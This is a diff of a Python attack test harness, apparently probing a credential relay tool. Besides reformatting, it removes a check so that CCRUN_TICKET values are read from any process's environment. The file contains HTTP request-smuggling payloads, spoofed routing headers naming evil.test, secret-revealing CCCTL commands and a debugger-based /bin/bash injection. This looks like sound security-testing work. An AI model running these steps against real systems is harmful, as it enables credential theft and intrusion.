@@ -99,10 +99,10 @@ def taken_connection(s):
 def others_ticket(s):
     """A ticket from the environment of whatever process shows one."""
     found = set()
-    for pid in filter(str.isdigit, os.listdir("/proc")):
+    for pid in s.pids():
         try:
             for item in Path(f"/proc/{pid}/environ").read_bytes().split(b"\0"):
-                if item.startswith(b"CCRUN_TICKET=") and str(s.home).encode() in Path(f"/proc/{pid}/environ").read_bytes():
+                if item.startswith(b"CCRUN_TICKET="):
                     found.add(item[13:].decode())
         except OSError:
             continue
@@ -165,10 +165,12 @@ def smuggling(s):
                  b"Content-Length: 0\r\nContent-Length: " + size + b"\r\n\r\n",
                  b"Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n",
                  b"Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n", b"Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n",
-                 b"Content-Length: +0\r\n\r\n", b"X: a\nContent-Length: 0\r\n\r\n", b"X: a\r\n b\r\nContent-Length: 0\r\n\r\n",
+                 b"Content-Length: +0\r\n\r\n", b"X: a\nContent-Length: 0\r\n\r\n",
+                 b"X: a\r\n b\r\nContent-Length: 0\r\n\r\n",
                  b"X\0: a\r\nContent-Length: 0\r\n\r\n", b"Content-Length: 0\r\n\r\n",
                  b"Transfer-Encoding: chunked\r\n\r\n2\r\n{}\r\n0\r\nX-A: b\r\n\r\n",
-                 b"Transfer-Encoding: chunked\r\n\r\n2;a=b\n{}\r\n0\r\n\r\n", b"Upgrade: h2c\r\nContent-Length: 0\r\n\r\n",
+                 b"Transfer-Encoding: chunked\r\n\r\n2;a=b\n{}\r\n0\r\n\r\n",
+                 b"Upgrade: h2c\r\nContent-Length: 0\r\n\r\n",
                  b"Connection: content-length\r\nContent-Length: 0\r\n\r\n"):
         try:
             talk(path, post + head + hidden, 0.5)
@@ -178,7 +180,8 @@ def smuggling(s):
 
 def routing(s):
     """Header fields that a server or a proxy would follow; the tag is in their values."""
-    values = {"X-HTTP-Method-Override": "DELETE", "X-Original-URL": f"/v1/files?{s.tag}", "X-Rewrite-URL": f"/v1/files?{s.tag}",
+    values = {"X-HTTP-Method-Override": "DELETE", "X-Original-URL": f"/v1/files?{s.tag}",
+        "X-Rewrite-URL": f"/v1/files?{s.tag}",
               "X-Forwarded-Host": f"evil.test/{s.tag}", "Forwarded": f"host=evil.test;{s.tag}", "Cookie": s.tag,
               "x-api-key": s.tag, "Proxy-Authorization": s.tag, "X-Amz-Security-Token": s.tag, "Via": s.tag}
     path = own_relay(s, s.ticket or None)
@@ -210,7 +213,8 @@ def echo(how):
     """An attack: the provider answers with the key that it was sent, in this form."""
     def act(s):
         path = own_relay(s, s.ticket or None)
-        talk(path, s.request(body=json.dumps({"model": "m", "max_tokens": 9, "stream": True, "echo": how, "tools": [{"name": "Bash"}], "messages": [
+        talk(path, s.request(body=json.dumps({"model": "m", "max_tokens": 9, "stream": True, "echo": how,
+            "tools": [{"name": "Bash"}], "messages": [
             {"role": "user", "content": s.tag}]}).encode()))
     return act
 
@@ -242,7 +246,8 @@ def burst(s):
 
 # ---- the mark, shed: somebody outside runs it ----
 
-ASKS = '$CCCTL get {e} --reveal; $CCCTL backup $HOME/b; timeout 5 $CCRUN --exec /usr/bin/env {e}; timeout 9 $CCRUN {e} -p "{tag}"'
+ASKS = ('$CCCTL get {e} --reveal; $CCCTL backup $HOME/b; timeout 5 $CCRUN --exec /usr/bin/env {e}; '
+        'timeout 9 $CCRUN {e} -p "{tag}"')
 
 
 def asked_outside(s):
@@ -311,7 +316,8 @@ def by_debugger(s):
     strings = b"/bin/bash\0".ljust(64, b"\0") + script.encode() + b"\0"
     vector = [base, base + 64, 0]
     data = strings.ljust(512, b"\0") + b"".join(v.to_bytes(8, "little") for v in vector)
-    env = [f"{k}={v}".encode() for k, v in os.environ.items() if k in ("HOME", "PATH", "XDG_RUNTIME_DIR", "XDG_CONFIG_HOME",
+    env = [f"{k}={v}".encode() for k, v in os.environ.items() if k in ("HOME", "PATH", "XDG_RUNTIME_DIR",
+        "XDG_CONFIG_HOME",
                                                                        "XDG_DATA_HOME", "XDG_STATE_HOME", "CCRUN_KDF")]
     at, table = base + len(data) + 256, []
     blob = b""
